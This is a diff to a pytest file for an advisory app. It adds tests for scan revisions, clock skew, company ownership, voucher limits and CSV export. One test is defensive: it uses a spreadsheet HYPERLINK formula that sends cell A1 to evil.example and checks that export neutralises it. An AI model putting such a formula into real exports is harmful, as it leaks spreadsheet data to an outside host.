@@ -2,14 +2,20 @@
 
 from __future__ import annotations
 
+import csv
 import uuid
 from dataclasses import replace
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
 from typing import Any
 
 import pytest
 
+from advisor_app.domain.csvcells import FORMULA_STARTS
+from advisor_app.domain.invariants import RuleError
 from advisor_app.errors import DuplicateError, NotFoundError, StateError, ValidationError
 from advisor_app.services.companies import CompanyInput
+from advisor_app.services.export import export_all
 from advisor_app.store.models import Scan
 from advisor_app.workspace import Workspace
 
@@ -76,7 +82,7 @@ def test_completing_needs_enough_answers_in_every_capability_dimension(workspace
             workspace.scans.answer(scan.id, item_id, 4)
     workspace.scans.answer(scan.id, "D2.1", 4)
     workspace.scans.answer(scan.id, "D2.2", None, not_applicable=True)
-    with pytest.raises(StateError, match=r"D2 \(\+2\)"):
+    with pytest.raises(RuleError, match=r"too few scores in D2 \(\+2\)"):
         workspace.scans.complete(scan.id)
     workspace.scans.answer(scan.id, "D2.3", 2)
     workspace.scans.answer(scan.id, "D2.4", 3)
@@ -91,7 +97,7 @@ def test_a_completed_scan_is_frozen_and_a_revision_copies_it(workspace: Workspac
     company = workspace.companies.create(company_input)
     original = complete_scan(workspace, company.id, score=2)
     workspace_scan = workspace.scans.get(original.id)
-    with pytest.raises(StateError, match="make a revision"):
+    with pytest.raises(RuleError, match=r"^This scan was completed and is frozen; make a revision to correct it$"):
         workspace.scans.answer(original.id, "D1.1", 5)
     revision = workspace.scans.revise(original.id)
     assert workspace.scans.revise(original.id).id == revision.id  # one open revision at a time
@@ -139,7 +145,7 @@ def test_voucher_limit_one_per_company_and_status_flow(workspace: Workspace, com
     with pytest.raises(ValidationError, match=r"above the maximum of €4,000\.00"):
         workspace.vouchers.request(company.id, 4_000_01)
     voucher = workspace.vouchers.request(company.id, 4_000_00, own_contribution_cents=1_500_00, supplier="TNO")
-    with pytest.raises(StateError, match="one voucher per company"):
+    with pytest.raises(RuleError, match=r"^This company already has a voucher; one voucher per company$"):
         workspace.vouchers.request(company.id, 1_000_00)
     with pytest.raises(ValidationError, match="cannot go from 'draft' to 'approved'"):
         workspace.vouchers.set_status(voucher.id, "approved")
@@ -190,3 +196,74 @@ def test_local_benchmark_follows_a_newly_completed_scan(demo_workspace: Workspac
     after = demo_workspace.benchmarks.groups(demo_workspace.questionnaire)
     assert after["programme"].n == before + 1
     assert after["construction"].means["D1"] > 1.0
+
+
+# -- the rulebook on the device: the same functions, the same words as the server (tests/server/test_rules_enforced.py)
+
+
+def test_only_the_current_completed_scan_is_revised(workspace: Workspace, company_input: CompanyInput) -> None:
+    company = workspace.companies.create(company_input)
+    draft = workspace.scans.start(company.id)
+    with pytest.raises(RuleError, match=r"^Only a completed scan can be revised$"):
+        workspace.scans.revise(draft.id)
+    workspace.scans.delete(draft.id)
+    original = complete_scan(workspace, company.id)
+    revision = workspace.scans.revise(original.id)
+    for item_id in workspace.questionnaire.item_ids:
+        workspace.scans.answer(revision.id, item_id, 4)
+    workspace.scans.complete(revision.id)
+    with pytest.raises(RuleError, match=r"^This scan was already replaced by a completed revision; revise the newest revision$"):
+        workspace.scans.revise(original.id)
+    assert workspace.scans.revise(revision.id).revision_of_id == revision.id
+    assert workspace.scans.start(company.id).follow_up_of_id == revision.id, "the follow-up compares with the correction"
+
+
+def test_a_scan_is_not_completed_before_it_started(workspace: Workspace, company_input: CompanyInput) -> None:
+    """A laptop whose clock was set back between starting and completing."""
+    company = workspace.companies.create(company_input)
+    scan = workspace.scans.start(company.id)
+    for item_id in workspace.questionnaire.item_ids:
+        workspace.scans.answer(scan.id, item_id, 3)
+    with workspace.db.session() as session:
+        stored = session.get(Scan, scan.id)
+        assert stored is not None
+        stored.started_at = datetime.now(UTC) + timedelta(hours=2)
+    with pytest.raises(RuleError, match=r"^The scan cannot be completed before it was started$"):
+        workspace.scans.complete(scan.id)
+
+
+def test_plans_and_vouchers_stay_within_their_company(workspace: Workspace, company_input: CompanyInput) -> None:
+    first = workspace.companies.create(company_input)
+    second = workspace.companies.create(replace(company_input, name="Other B.V.", kvk="87654321"))
+    scan = complete_scan(workspace, first.id)
+    with pytest.raises(RuleError, match=r"^The scan belongs to another company than this plan$") as caught:
+        workspace.plans.create(second.id, "Plan", scan_id=scan.id)
+    assert caught.value.field == "scan_id"
+    plan = workspace.plans.create(first.id, "Plan", scan_id=scan.id)
+    with pytest.raises(RuleError, match=r"^The plan belongs to another company than this voucher$"):
+        workspace.vouchers.request(second.id, 2_000_00, plan_id=plan.id)
+    assert workspace.vouchers.request(first.id, 2_000_00, plan_id=plan.id).plan_id == plan.id
+
+
+def test_the_own_contribution_is_not_more_than_the_voucher(workspace: Workspace, company_input: CompanyInput) -> None:
+    company = workspace.companies.create(company_input)
+    with pytest.raises(RuleError, match=r"^The own contribution is more than the voucher amount$") as caught:
+        workspace.vouchers.request(company.id, 1_000_00, own_contribution_cents=1_000_01)
+    assert caught.value.field == "own_contribution"
+    voucher = workspace.vouchers.request(company.id, 1_000_00, own_contribution_cents=1_000_00)
+    with pytest.raises(RuleError, match="more than the voucher amount"):
+        workspace.vouchers.update(voucher.id, amount_cents=500_00)
+    assert workspace.vouchers.for_company(company.id)[0].amount_cents == 1_000_00
+
+
+def test_the_csv_export_neutralises_formulas(workspace: Workspace, company_input: CompanyInput, tmp_path: Path) -> None:
+    """A company name from a registration list must not run as a formula in the coordinator's Excel."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1;"klik")'
+    company = workspace.companies.create(replace(company_input, name=formula))
+    complete_scan(workspace, company.id)
+    export_all(workspace, tmp_path / "scans.csv", "csv")
+    with (tmp_path / "scans.csv").open(encoding="utf-8-sig", newline="") as handle:
+        (row,) = list(csv.DictReader(handle, delimiter=";"))
+    assert row["company"] == "'" + formula
+    assert not any(value.startswith(FORMULA_STARTS) for value in row.values())
+    assert float(row["sii"]) == 50.0
